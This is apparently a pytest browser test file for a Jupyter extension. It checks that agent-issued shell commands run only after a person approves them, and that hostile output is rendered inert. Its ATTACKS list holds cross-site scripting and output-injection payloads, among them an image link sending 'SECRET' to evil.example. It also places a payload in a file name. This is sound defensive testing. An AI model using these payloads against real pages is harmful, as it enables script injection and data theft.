"""A person before a real page: real harness, worker and commands, in JupyterLab and in Jupyter Notebook."""

from __future__ import annotations

import json
import os
import time
from pathlib import Path

import pytest
from tests.needs import need

need("chromium")

from tests.browser.lab import complaints, open_page  # noqa: E402

pytestmark = [pytest.mark.browser, pytest.mark.timeout(180)]
APPS = pytest.mark.parametrize("app", ["lab", "notebook"])
REMOVE = "%%toolscript\nconst run = await shell('rm -f victim.txt');\nreturn run.exitCode"
BOTH = "%%toolscript\nconst ran = await Promise.all(['a', 'b'].map((n) => shell(`rm -f ${n}.txt`)));\nreturn ran.length"


def files(running, *names: str) -> list[Path]:
    """Make files that scripts may remove."""
    found = [running.folder / name for name in names]
    for path in found:
        path.write_text("x")
    return found


@APPS
def test_what_a_person_answers_is_what_happens_to_each_call(opened, running, app):
    victim, a, b = files(running, "victim.txt", "a.txt", "b.txt")
    lab = opened(REMOVE, REMOVE, REMOVE, BOTH, app=app)

    denied = lab.run(0)
    denied.get_by_placeholder("reason").fill("not that file", timeout=60_000)
    lab.shot(f"waiting-{app}")
    assert complaints(lab.page, ".jp-Cell-outputArea") == []
    denied.get_by_role("button", name="Deny", exact=True).click()
    denied.get_by_text("not that file").first.wait_for()
    assert victim.exists()

    edited = lab.run(1)
    edited.get_by_role("button", name="Edit…").click()
    field = edited.get_by_placeholder("arguments as JSON")
    field.fill("{")
    edited.get_by_role("button", name="Allow what is written here").click()
    edited.get_by_text("this is not JSON").wait_for()
    field.fill(json.dumps({"command": "true"}))
    edited.get_by_role("button", name="Allow what is written here").click()
    edited.locator(".jp-OutputArea-executeResult").wait_for()
    edited.get_by_text("edited and allowed").wait_for()
    assert victim.exists()

    allowed = lab.run(2)
    allowed.get_by_role("button", name="Allow once").click()
    assert allowed.locator(".jp-OutputArea-executeResult").inner_text().split()[-1] == "0"
    assert not victim.exists()

    batch = lab.run(3)
    batch.get_by_text("2 requests wait").first.wait_for()
    lab.shot(f"batch-{app}")
    batch.get_by_role("button", name="Allow all 2 once").click()
    batch.locator(".jp-OutputArea-executeResult").wait_for()
    lab.idle()
    assert not a.exists() and not b.exists()
    assert lab.page.get_by_role("button", name="Allow once").count() == 0


def test_of_a_plan_only_what_a_person_chose_is_done(opened, running):
    a, b = files(running, "a.txt", "b.txt")
    lab = opened("%%toolscript --plan\nfor (const n of ['a', 'b']) await shell(`rm -f ${n}.txt`);\nreturn 1")
    out = lab.run(0)
    run = out.get_by_role("button", name="Run what is chosen")
    run.wait_for(timeout=60_000)
    lab.shot("plan-lab")
    assert complaints(lab.page, ".toolscript-plan") == []
    out.get_by_role("checkbox").nth(1).uncheck()
    run.click()
    out.get_by_text("script failed").wait_for()

    assert not a.exists() and b.exists()


def test_a_second_click_in_the_same_place_does_not_answer_the_next_request(opened, running):
    a, b = files(running, "a.txt", "b.txt")
    lab = opened("%%toolscript\nfor (const name of ['a', 'b']) await shell(`rm -f ${name}.txt`)")
    out = lab.run(0)
    out.get_by_role("button", name="Allow once").dblclick(timeout=60_000)
    out.get_by_text("call 2, line 2").wait_for()
    lab.page.wait_for_timeout(1_000)

    assert not a.exists() and b.exists()


def test_the_page_keeps_showing_the_last_cell_when_its_buttons_go_away(opened, running):
    files(running, "victim.txt")
    long = "%%py\n" + "\n".join(f"x{n} = {n}" for n in range(8))
    lab = opened(*[long] * 10, REMOVE)
    out = lab.run(10)
    allow = out.get_by_role("button", name="Allow once")
    allow.wait_for(timeout=60_000)
    lab.page.mouse.wheel(0, 5_000)
    allow.click()
    out.locator(".jp-OutputArea-executeResult").wait_for()
    record = out.locator(".ts-script")
    record.wait_for()

    lab.page.wait_for_function(
        "e => { const r = e.getBoundingClientRect(); return r.top > 0 && r.bottom < innerHeight }",
        arg=record.element_handle(),
    )
    assert lab.page.evaluate("document.activeElement.matches('.jp-Cell')")


@APPS
def test_a_page_that_was_loaded_anew_without_saving_gets_its_buttons_and_the_end(opened, running, app):
    (victim,) = files(running, "victim.txt")
    lab = opened(REMOVE, app=app)
    lab.run(0).get_by_role("button", name="Allow once").wait_for(timeout=60_000)
    lab.show()
    out = lab.cell(0).locator(".jp-Cell-outputArea")
    button = out.get_by_role("button", name="Allow once")
    button.wait_for()
    lab.shot(f"reloaded-{app}")
    assert victim.exists()
    button.click()
    out.get_by_text("script completed · 1 operation").wait_for()

    assert out.locator(".jp-OutputArea-executeResult").inner_text().split()[-1] == "0"
    assert not victim.exists()


def test_a_page_that_was_away_at_the_end_gets_what_it_missed_once(opened, running):
    go = running.folder / "go"
    wait = f"%%toolscript\nconsole.log('on it');\nawait shell('until test -e {go.name}; do sleep 0.1; done');\nreturn 'there'"
    lab = opened(wait)
    lab.run(0).locator(".ts-row").wait_for(timeout=60_000)
    lab.page.goto("about:blank")
    go.write_text("")
    lab.show()
    out = lab.cell(0).locator(".jp-Cell-outputArea")
    out.get_by_text("script completed").wait_for()
    assert out.inner_text().split("\n")[0] == "on it"
    assert out.locator(".jp-OutputArea-executeResult").get_by_text("there").count() == 1

    lab.show()
    lab.idle()
    assert out.get_by_text("script completed").count() == 0


def test_a_second_tab_can_answer_and_both_show_the_end(opened, running):
    (victim,) = files(running, "victim.txt")
    lab = opened(REMOVE)
    out = lab.run(0)
    out.get_by_role("button", name="Allow once").wait_for(timeout=60_000)
    second = lab.another()
    second.show()
    there = second.cell(0).locator(".jp-Cell-outputArea")
    there.get_by_role("button", name="Allow once").click()
    for page in (out, there):
        page.get_by_text("script completed · 1 operation").wait_for()

    assert not victim.exists()


def test_the_ordinary_python_kernel_has_the_same_buttons_by_its_extension(opened, running):
    (victim,) = files(running, "victim.txt")
    lab = opened("%load_ext toolscript_extension", REMOVE, "_run.result", kernel="stock")
    lab.run(0)
    lab.idle()
    lab.run(1).get_by_role("button", name="Allow once").wait_for(timeout=60_000)
    lab.save()
    lab.show()
    out = lab.cell(1).locator(".jp-Cell-outputArea")
    out.get_by_role("button", name="Allow once").click()
    out.get_by_text("script completed · 1 operation").wait_for()
    lab.idle()

    assert not victim.exists()
    assert lab.run(2).locator(".jp-OutputArea-executeResult").inner_text().split()[-1] == "0"


def test_a_running_command_is_followed_and_the_stop_button_ends_it_with_all_of_its_own(opened):
    lab = opened("%%toolscript\nawait shell('echo first line; sleep 7311')", "%%toolscript\nreturn 40 + 2")
    out = lab.run(0)
    row = out.locator(".ts-row")
    row.get_by_text("running").wait_for(timeout=60_000)
    row.locator("summary").click()
    row.get_by_text("first line", exact=True).wait_for()
    status = out.locator(".ts-status")
    before = status.inner_text()
    lab.page.wait_for_function("([e, before]) => e.innerText !== before", arg=[status.element_handle(), before])
    lab.shot("running-lab")
    assert sleepers() != []

    lab.stop()
    until(lambda: sleepers() == [])
    lab.idle()
    assert "Interrupted" in out.inner_text()
    lab.run(1).locator(".jp-OutputArea-executeResult").get_by_text("42").wait_for()


def test_a_turn_streams_into_the_page_and_stays_as_its_record(opened, running):
    words = " ".join(f"word{n}" for n in range(300))
    running.speak("Stream", f"{words}\n\n<tool-calls>\nawait sleep(1500);\nreturn 1\n</tool-calls>\n", "The *end*.")
    lab = opened("%agent recorded\nStream")
    out = lab.run(0)
    out.get_by_text("word299").wait_for(timeout=60_000)
    assert out.locator(".ts-status").get_by_text("running").count() == 1
    lab.shot("streaming-lab")
    out.get_by_text("The end.").wait_for()
    lab.idle()

    assert out.locator("em").inner_text() == "end"
    lab.shot("turn-lab")


ATTACKS = [
    "<script>window.hit = 1</script>",
    "<img src=//evil.example/x onerror=window.hit=1>",
    "[click](javascript:window.hit=1) ![x](https://evil.example/?q=SECRET)",
    "$$\\href{javascript:window.hit=1}{x}$$",
    "<svg onload=window.hit=1><a href=javascript:window.hit=1>x</a></svg>",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07\x1b[2J",
    "</pre></details><iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "`\n<b onclick=window.hit=1>bold</b>\n- `",
]


@APPS
def test_hostile_text_in_a_real_page_runs_nothing_and_asks_nothing_of_the_network(chromium, opened, running, app):
    """Case facts after the output-injection rows of common agent and notebook advisories."""
    page = open_page(chromium)
    asked, dialogs = [], []
    page.on("request", lambda r: asked.append(r.url) if not r.url.startswith((running.url, "data:", "blob:")) else None)
    page.on("dialog", lambda d: d.accept() if d.type == "beforeunload" else (dialogs.append(d.message), d.dismiss()))
    evil = json.dumps(ATTACKS)
    script = (
        f"const evil = {evil};\nfor (const text of evil) console.log(text);\n"
        "for (const text of evil) await tools.exec({ command: ['printf', '%s', text] });\n"
        "await tools.writeFile({ path: 'x <img src=x onerror=window.hit=1>.md', content: evil.join('\\n') });\n"
    )
    running.speak(
        "Attack", "\n\n".join(ATTACKS) + f"\n<tool-calls>\n{script}return evil;\n</tool-calls>\n", "\n\n".join(ATTACKS)
    )
    lab = opened(
        f"%%toolscript\n{script}throw new Error(evil.join(' '))",
        "%agent recorded\nAttack",
        REMOVE.replace("victim", ATTACKS[1].replace("/", "")),
        app=app,
        page=page,
    )
    for index in range(2):
        out = lab.run(index)
        lab.idle()
        for summary in out.locator("summary").all():
            summary.click()
    lab.run(2).get_by_role("button", name="Allow once").wait_for(timeout=60_000)
    lab.shot(f"attacks-{app}")
    lab.save()
    lab.show()
    lab.cell(1).locator(".ts-view").wait_for()

    assert page.evaluate("window.hit") is None
    assert (asked, dialogs) == ([], [])
    assert page.locator(".ts-view :is(script, img, svg, iframe, object, embed, form, style)").count() == 0
    page.context.close()


def sleepers() -> list[int]:
    found = []
    for entry in Path("/proc").glob("[0-9]*"):
        try:
            if b"sleep\x007311" in (entry / "cmdline").read_bytes() and entry.name != str(os.getpid()):
                found.append(int(entry.name))
        except OSError:
            continue
    return found


def until(condition, seconds: float = 60.0) -> None:
    end = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < end
        time.sleep(0.05)
